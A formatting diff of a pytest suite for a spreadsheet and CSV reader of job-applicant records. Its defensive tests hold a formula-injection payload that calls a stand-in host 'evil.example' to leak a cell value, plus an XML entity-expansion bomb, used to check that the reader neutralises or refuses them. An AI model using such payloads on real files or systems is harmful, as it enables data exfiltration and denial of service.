@@ -25,11 +25,16 @@ from skillhire.safety import ReadLimits, file_sha256, inspect_file
 from skillhire.spreadsheets import SheetRow, column_letter, normalise_header, read_rows
 
 COLUMNS = ["applicant_id", "first_name", "last_name", "email", "veterans_preference"]
-ALIASES = {"applicant_id": ["Application Number", "Applicant #"], "last_name": ["Applicant Last Name", "Surname"]}
+ALIASES = {
+    "applicant_id": ["Application Number", "Applicant #"],
+    "last_name": ["Applicant Last Name", "Surname"],
+}
 ENGINES = ["calamine", "openpyxl"]
 
 
-def make_xlsx(path: Path, rows: list[list[object]], *, title: str = "Applicants", merge: str | None = None) -> Path:
+def make_xlsx(
+    path: Path, rows: list[list[object]], *, title: str = "Applicants", merge: str | None = None
+) -> Path:
     workbook = openpyxl.Workbook()
     sheet = workbook.active
     sheet.title = title
@@ -67,14 +72,22 @@ def values(result) -> list[tuple[int, dict]]:
 
 @pytest.mark.parametrize(
     "header, expected",
-    [("Applicant ID", "applicantid"), ("  applicant_id ", "applicantid"), ("APPLICANT-ID.", "applicantid"),
-     ("Vet. Pref (code)", "vetprefcode"), ("Número", "número"), ("", "")],
+    [
+        ("Applicant ID", "applicantid"),
+        ("  applicant_id ", "applicantid"),
+        ("APPLICANT-ID.", "applicantid"),
+        ("Vet. Pref (code)", "vetprefcode"),
+        ("Número", "número"),
+        ("", ""),
+    ],
 )
 def test_normalise_header(header: str, expected: str) -> None:
     assert normalise_header(header) == expected
 
 
-@pytest.mark.parametrize("index, letter", [(0, "A"), (1, "B"), (25, "Z"), (26, "AA"), (27, "AB"), (701, "ZZ"), (702, "AAA")])
+@pytest.mark.parametrize(
+    "index, letter", [(0, "A"), (1, "B"), (25, "Z"), (26, "AA"), (27, "AB"), (701, "ZZ"), (702, "AAA")]
+)
 def test_column_letter(index: int, letter: str) -> None:
     assert column_letter(index) == letter
 
@@ -123,15 +136,24 @@ def test_merged_header_cell_keeps_the_data_under_the_second_column_letter(tmp_pa
         merge="B1:C1",
     )
     result = read_rows(path, columns=COLUMNS, required=["applicant_id"])
-    assert result.headers == {"applicant_id": "applicant_id", "Name": "Name", "column C": "", "email": "Email"}
-    assert values(result) == [(2, {"applicant_id": "A-1", "Name": "Ann", "column C": "Lee", "email": "a@x.gov"})]
+    assert result.headers == {
+        "applicant_id": "applicant_id",
+        "Name": "Name",
+        "column C": "",
+        "email": "Email",
+    }
+    assert values(result) == [
+        (2, {"applicant_id": "A-1", "Name": "Ann", "column C": "Lee", "email": "a@x.gov"})
+    ]
 
 
 @pytest.mark.parametrize(
     "engine, expected_date",
     [("calamine", dt.date(2026, 3, 9)), ("openpyxl", dt.datetime(2026, 3, 9))],
 )
-def test_cell_types_numbers_as_text_dates_and_serials(tmp_path: Path, engine: str, expected_date: object) -> None:
+def test_cell_types_numbers_as_text_dates_and_serials(
+    tmp_path: Path, engine: str, expected_date: object
+) -> None:
     path = make_xlsx(
         tmp_path / "types.xlsx",
         [
@@ -142,8 +164,28 @@ def test_cell_types_numbers_as_text_dates_and_serials(tmp_path: Path, engine: st
     )
     result = read_rows(path, required=["applicant_id"], engine=engine)
     assert values(result) == [
-        (2, {"applicant_id": "00123", "score": 85, "applied": expected_date, "serial": 46090, "zip": "02134", "flag": True}),
-        (3, {"applicant_id": 456, "score": "85", "applied": None, "serial": 46090.5, "zip": 2134, "flag": False}),
+        (
+            2,
+            {
+                "applicant_id": "00123",
+                "score": 85,
+                "applied": expected_date,
+                "serial": 46090,
+                "zip": "02134",
+                "flag": True,
+            },
+        ),
+        (
+            3,
+            {
+                "applicant_id": 456,
+                "score": "85",
+                "applied": None,
+                "serial": 46090.5,
+                "zip": 2134,
+                "flag": False,
+            },
+        ),
     ]
     assert type(result.rows[0]["score"]) is int
 
@@ -167,7 +209,9 @@ def test_formulas_read_as_their_saved_value_or_empty(tmp_path: Path) -> None:
 def test_formula_injection_payload_is_read_as_plain_text(tmp_path: Path) -> None:
     payload = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
     path = tmp_path / "inject.csv"
-    path.write_text(f'applicant_id,first_name\nA-1,"{payload.replace(chr(34), chr(34) * 2)}"\n', encoding="utf-8")
+    path.write_text(
+        f'applicant_id,first_name\nA-1,"{payload.replace(chr(34), chr(34) * 2)}"\n', encoding="utf-8"
+    )
     assert values(read_rows(path)) == [(2, {"applicant_id": "A-1", "first_name": payload})]
 
 
@@ -175,23 +219,44 @@ def test_formula_injection_payload_is_read_as_plain_text(tmp_path: Path) -> None
     "name, content, expected_rows, expected_encoding",
     [
         ("header only", "applicant_id,email\n", [], "utf-8"),
-        ("one row", "applicant_id,email\nA-1,a@x.gov\n", [(2, {"applicant_id": "A-1", "email": "a@x.gov"})], "utf-8"),
-        ("no final newline", "applicant_id,email\r\nA-1,a@x.gov", [(2, {"applicant_id": "A-1", "email": "a@x.gov"})], "utf-8"),
+        (
+            "one row",
+            "applicant_id,email\nA-1,a@x.gov\n",
+            [(2, {"applicant_id": "A-1", "email": "a@x.gov"})],
+            "utf-8",
+        ),
+        (
+            "no final newline",
+            "applicant_id,email\r\nA-1,a@x.gov",
+            [(2, {"applicant_id": "A-1", "email": "a@x.gov"})],
+            "utf-8",
+        ),
         (
             "quoted newline",
             'applicant_id,note\nA-1,"two\nlines"\nA-2,x\n',
             [(2, {"applicant_id": "A-1", "note": "two\nlines"}), (3, {"applicant_id": "A-2", "note": "x"})],
             "utf-8",
         ),
-        ("row longer than header", "applicant_id\nA-1,extra\n", [(2, {"applicant_id": "A-1", "column B": "extra"})], "utf-8"),
+        (
+            "row longer than header",
+            "applicant_id\nA-1,extra\n",
+            [(2, {"applicant_id": "A-1", "column B": "extra"})],
+            "utf-8",
+        ),
     ],
 )
-def test_csv_table(tmp_path: Path, name: str, content: str, expected_rows: list, expected_encoding: str) -> None:
+def test_csv_table(
+    tmp_path: Path, name: str, content: str, expected_rows: list, expected_encoding: str
+) -> None:
     path = tmp_path / "rows.csv"
     path.write_text(content, encoding="utf-8", newline="")
     result = read_rows(path, required=["applicant_id"])
     assert values(result) == expected_rows
-    assert (result.sheet, result.encoding, result.counts.rows_read) == ("rows.csv", expected_encoding, len(expected_rows))
+    assert (result.sheet, result.encoding, result.counts.rows_read) == (
+        "rows.csv",
+        expected_encoding,
+        len(expected_rows),
+    )
 
 
 @pytest.mark.parametrize(
@@ -209,7 +274,10 @@ def test_csv_encodings(tmp_path: Path, raw: bytes, expected_encoding: str) -> No
     result = read_rows(path, required=["applicant_id"])
     assert result.encoding == expected_encoding
     assert result.headers == {"applicant_id": "applicant_id", "last_name": "last_name"}
-    assert values(result) == [(2, {"applicant_id": "A-1", "last_name": "Muñoz"}), (3, {"applicant_id": "A-2", "last_name": "Zoë"})]
+    assert values(result) == [
+        (2, {"applicant_id": "A-1", "last_name": "Muñoz"}),
+        (3, {"applicant_id": "A-2", "last_name": "Zoë"}),
+    ]
 
 
 def test_mixed_encodings_decode_each_line_and_warn(tmp_path: Path) -> None:
@@ -218,13 +286,19 @@ def test_mixed_encodings_decode_each_line_and_warn(tmp_path: Path) -> None:
     with pytest.warns(SkillhireWarning, match=r"mixed text encodings: 1 line\(s\) were Windows-1252"):
         result = read_rows(path)
     assert result.encoding == "utf-8+cp1252"
-    assert values(result) == [(2, {"applicant_id": "A-1", "last_name": "Muñoz"}), (3, {"applicant_id": "A-2", "last_name": "Zoë"})]
+    assert values(result) == [
+        (2, {"applicant_id": "A-1", "last_name": "Muñoz"}),
+        (3, {"applicant_id": "A-2", "last_name": "Zoë"}),
+    ]
 
 
 @pytest.mark.parametrize(
     "suffix, text",
-    [(".tsv", "applicant_id\temail\nA-1\ta@x.gov\n"), (".csv", "applicant_id;email\nA-1;a@x.gov\n"),
-     (".csv", "applicant_id|email\nA-1|a@x.gov\n")],
+    [
+        (".tsv", "applicant_id\temail\nA-1\ta@x.gov\n"),
+        (".csv", "applicant_id;email\nA-1;a@x.gov\n"),
+        (".csv", "applicant_id|email\nA-1|a@x.gov\n"),
+    ],
 )
 def test_delimiters(tmp_path: Path, suffix: str, text: str) -> None:
     path = tmp_path / f"rows{suffix}"
@@ -235,14 +309,24 @@ def test_delimiters(tmp_path: Path, suffix: str, text: str) -> None:
 def test_column_map_and_extra_columns(tmp_path: Path) -> None:
     path = tmp_path / "map.csv"
     path.write_text("Cand No,Mail,Race/Ethnicity\nA-1,a@x.gov,Asian\n", encoding="utf-8")
-    result = read_rows(path, columns=COLUMNS, required=["applicant_id"], column_map={"cand no": "applicant_id", "Mail": "email"})
+    result = read_rows(
+        path,
+        columns=COLUMNS,
+        required=["applicant_id"],
+        column_map={"cand no": "applicant_id", "Mail": "email"},
+    )
     assert result.headers == {"applicant_id": "Cand No", "email": "Mail", "Race/Ethnicity": "Race/Ethnicity"}
     assert values(result) == [(2, {"applicant_id": "A-1", "email": "a@x.gov", "Race/Ethnicity": "Asian"})]
 
 
 def test_in_memory_rows() -> None:
-    result = read_rows([{"Applicant ID": "A-1", "Email": None}, {"Applicant ID": "A-2", "Email": "b@x.gov"}], columns=COLUMNS)
-    assert values(result) == [(2, {"applicant_id": "A-1", "email": None}), (3, {"applicant_id": "A-2", "email": "b@x.gov"})]
+    result = read_rows(
+        [{"Applicant ID": "A-1", "Email": None}, {"Applicant ID": "A-2", "Email": "b@x.gov"}], columns=COLUMNS
+    )
+    assert values(result) == [
+        (2, {"applicant_id": "A-1", "email": None}),
+        (3, {"applicant_id": "A-2", "email": "b@x.gov"}),
+    ]
     assert (result.source, result.reader, result.sha256) == ("<rows>", "rows", None)
     assert read_rows([], required=["applicant_id"]).counts.rows_read == 0
 
@@ -252,7 +336,9 @@ def test_in_memory_rows() -> None:
 
 def test_duplicate_ids_reject_every_row_sharing_the_id(tmp_path: Path) -> None:
     path = tmp_path / "dups.csv"
-    path.write_text("applicant_id,email\nA-1,a@x.gov\nA-2,b@x.gov\na-1 ,c@x.gov\nA-1,d@x.gov\n", encoding="utf-8")
+    path.write_text(
+        "applicant_id,email\nA-1,a@x.gov\nA-2,b@x.gov\na-1 ,c@x.gov\nA-1,d@x.gov\n", encoding="utf-8"
+    )
     result = read_rows(path, required=["applicant_id"], unique=["applicant_id"])
     assert [row.row for row in result.rows] == [3]
     assert [row.row for row in result.rejected] == [2, 4, 5]
@@ -267,7 +353,9 @@ def test_duplicate_ids_reject_every_row_sharing_the_id(tmp_path: Path) -> None:
 def test_empty_required_value_rejects_the_row(tmp_path: Path) -> None:
     path = make_xlsx(tmp_path / "gaps.xlsx", [["applicant_id", "email"], [None, "a@x.gov"], ["A-2", None]])
     result = read_rows(path, required=["applicant_id"])
-    assert [str(error) for error in result.errors] == ["Applicants, row 2, column 'applicant_id': required value is empty"]
+    assert [str(error) for error in result.errors] == [
+        "Applicants, row 2, column 'applicant_id': required value is empty"
+    ]
     assert [(r.row, r.values) for r in result.rejected] == [(2, {"applicant_id": None, "email": "a@x.gov"})]
     assert values(result) == [(3, {"applicant_id": "A-2", "email": None})]
 
@@ -319,7 +407,9 @@ def test_empty_required_value_rejects_the_row(tmp_path: Path) -> None:
         ),
     ],
 )
-def test_bad_files_raise_one_clear_error(tmp_path: Path, name: str, content: bytes, error: type, message: str) -> None:
+def test_bad_files_raise_one_clear_error(
+    tmp_path: Path, name: str, content: bytes, error: type, message: str
+) -> None:
     path = tmp_path / name
     path.write_bytes(content)
     with pytest.raises(error) as caught:
@@ -339,7 +429,9 @@ def test_zip_without_workbook(tmp_path: Path) -> None:
     path = tmp_path / "notes.xlsx"
     with zipfile.ZipFile(path, "w") as archive:
         archive.writestr("notes.txt", "hello")
-    with pytest.raises(InvalidFileError, match=r"is a zip archive but not an Excel workbook \(no xl/workbook.xml\)"):
+    with pytest.raises(
+        InvalidFileError, match=r"is a zip archive but not an Excel workbook \(no xl/workbook.xml\)"
+    ):
         read_rows(path)
 
 
@@ -364,7 +456,10 @@ def test_missing_required_column_names_the_accepted_and_found_headers(tmp_path: 
 def test_column_map_naming_an_absent_header(tmp_path: Path) -> None:
     path = tmp_path / "cols.csv"
     path.write_text("ID,Mail\nA-1,a@x.gov\n", encoding="utf-8")
-    with pytest.raises(MissingColumnError, match=r"column_map names header\(s\) 'Cand No' that the header row does not have; headers found: ID, Mail"):
+    with pytest.raises(
+        MissingColumnError,
+        match=r"column_map names header\(s\) 'Cand No' that the header row does not have; headers found: ID, Mail",
+    ):
         read_rows(path, column_map={"Cand No": "applicant_id"})
 
 
@@ -387,14 +482,18 @@ def test_sheets_unknown_name_and_automatic_choice(tmp_path: Path) -> None:
     assert read_rows(path, required=["applicant_id"]).sheet == "Applicants"
     assert values(read_rows(path, sheet=1)) == [(2, {"applicant_id": "A-1"})]
     assert read_rows(path, sheet=" applicants").sheet == "Applicants"
-    with pytest.raises(UnknownNameError, match=r"No sheet in book.xlsx 'Scores'. Available: Applicants, Read me"):
+    with pytest.raises(
+        UnknownNameError, match=r"No sheet in book.xlsx 'Scores'. Available: Applicants, Read me"
+    ):
         read_rows(path, sheet="Scores")
     with pytest.raises(MissingColumnError, match=r"\(sheets searched: Read me, Applicants\)"):
         read_rows(path, required=["email"])
 
 
 def test_unknown_engine(tmp_path: Path) -> None:
-    with pytest.raises(UnknownNameError, match="No spreadsheet engine 'pandas'. Available: calamine, openpyxl"):
+    with pytest.raises(
+        UnknownNameError, match="No spreadsheet engine 'pandas'. Available: calamine, openpyxl"
+    ):
         read_rows(tmp_path / "x.csv", engine="pandas")  # type: ignore[arg-type]
 
 
@@ -402,7 +501,11 @@ def test_unknown_engine(tmp_path: Path) -> None:
 def test_wrong_dimension_never_gives_a_short_read(tmp_path: Path, engine: str) -> None:
     rows = [["applicant_id", "score"]] + [[f"A-{i}", i] for i in range(1, 51)]
     path = make_xlsx(tmp_path / "dimension.xlsx", rows)
-    rewrite_part(path, "xl/worksheets/sheet1.xml", lambda data: re.sub(rb'<dimension ref="[^"]+"', b'<dimension ref="A1:B2"', data))
+    rewrite_part(
+        path,
+        "xl/worksheets/sheet1.xml",
+        lambda data: re.sub(rb'<dimension ref="[^"]+"', b'<dimension ref="A1:B2"', data),
+    )
     # the trap is real: openpyxl's read-only mode, left alone, trusts the tag and stops after 2 rows
     naive = openpyxl.load_workbook(path, read_only=True)
     assert len(list(naive.active.iter_rows(values_only=True))) == 2
@@ -427,18 +530,23 @@ def test_zip_bomb_ratio_is_refused_before_reading(tmp_path: Path) -> None:
 
 def test_declared_size_over_the_limit_is_refused(tmp_path: Path) -> None:
     path = make_xlsx(tmp_path / "big.xlsx", [["applicant_id"], ["A-1"]])
-    with pytest.raises(UnsafeFileError, match=r"declares [\d.]+ KiB uncompressed, more than the 1.0 KiB limit"):
+    with pytest.raises(
+        UnsafeFileError, match=r"declares [\d.]+ KiB uncompressed, more than the 1.0 KiB limit"
+    ):
         read_rows(path, limits=ReadLimits(max_uncompressed_bytes=1024))
 
 
 def test_xml_entity_expansion_is_refused(tmp_path: Path) -> None:
     path = make_xlsx(tmp_path / "lol.xlsx", [["applicant_id"], ["A-1"]])
     bomb = (
-        b"\n<!-- a long comment to push the declaration past a fixed-size look " + b"x" * 5000
+        b"\n<!-- a long comment to push the declaration past a fixed-size look "
+        + b"x" * 5000
         + b' -->\n<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
     )
     rewrite_part(path, "xl/worksheets/sheet1.xml", lambda data: with_prolog(data, bomb))
-    with pytest.raises(UnsafeFileError, match=r"part xl/worksheets/sheet1.xml has an XML document type declaration"):
+    with pytest.raises(
+        UnsafeFileError, match=r"part xl/worksheets/sheet1.xml has an XML document type declaration"
+    ):
         read_rows(path)
 
 
@@ -447,8 +555,13 @@ def test_openpyxl_entity_refusal_also_becomes_a_skillhire_error(tmp_path: Path) 
     from skillhire.spreadsheets import _openpyxl_tables
 
     path = make_xlsx(tmp_path / "lol.xlsx", [["applicant_id"], ["A-1"]])
-    rewrite_part(path, "xl/worksheets/sheet1.xml", lambda data: with_prolog(data, b'<!DOCTYPE w [<!ENTITY a "b">]>'))
-    with pytest.raises(InvalidFileError, match=r"has XML entity declarations, refused as a possible XML bomb \((EntitiesForbidden|DTDForbidden)\)"):
+    rewrite_part(
+        path, "xl/worksheets/sheet1.xml", lambda data: with_prolog(data, b'<!DOCTYPE w [<!ENTITY a "b">]>')
+    )
+    with pytest.raises(
+        InvalidFileError,
+        match=r"has XML entity declarations, refused as a possible XML bomb \((EntitiesForbidden|DTDForbidden)\)",
+    ):
         for _, rows in _openpyxl_tables(path, None):
             list(rows)
 
@@ -457,13 +570,20 @@ def test_row_cap_refuses_rather_than_cuts(tmp_path: Path) -> None:
     path = tmp_path / "many.csv"
     path.write_text("applicant_id\n" + "".join(f"A-{i}\n" for i in range(12)), encoding="utf-8")
     assert read_rows(path, max_rows=12).counts.rows_read == 12
-    with pytest.raises(UnsafeFileError, match=r"many.csv: has more than 11 data rows \(ReadLimits.max_rows / max_rows\); refused"):
+    with pytest.raises(
+        UnsafeFileError,
+        match=r"many.csv: has more than 11 data rows \(ReadLimits.max_rows / max_rows\); refused",
+    ):
         read_rows(path, max_rows=11)
 
 
 def test_declared_dimension_over_the_row_cap_is_refused_before_reading(tmp_path: Path) -> None:
     path = make_xlsx(tmp_path / "tall.xlsx", [["applicant_id"], ["A-1"]])
-    rewrite_part(path, "xl/worksheets/sheet1.xml", lambda data: re.sub(rb'<dimension ref="[^"]+"', b'<dimension ref="A1:A5000000"', data))
+    rewrite_part(
+        path,
+        "xl/worksheets/sheet1.xml",
+        lambda data: re.sub(rb'<dimension ref="[^"]+"', b'<dimension ref="A1:A5000000"', data),
+    )
     with pytest.raises(UnsafeFileError, match=r"declares 5,000,000 rows, more than the limit of 2,000,000"):
         inspect_file(path)
 
@@ -479,7 +599,11 @@ def test_input_is_never_modified(tmp_path: Path) -> None:
 
 # ----------------------------------------------------------------------------------------- properties
 
-cell_text = st.text(st.characters(blacklist_categories=("Cs", "Cc")), min_size=1, max_size=20).map(str.strip).filter(bool)
+cell_text = (
+    st.text(st.characters(blacklist_categories=("Cs", "Cc")), min_size=1, max_size=20)
+    .map(str.strip)
+    .filter(bool)
+)
 
 
 @settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
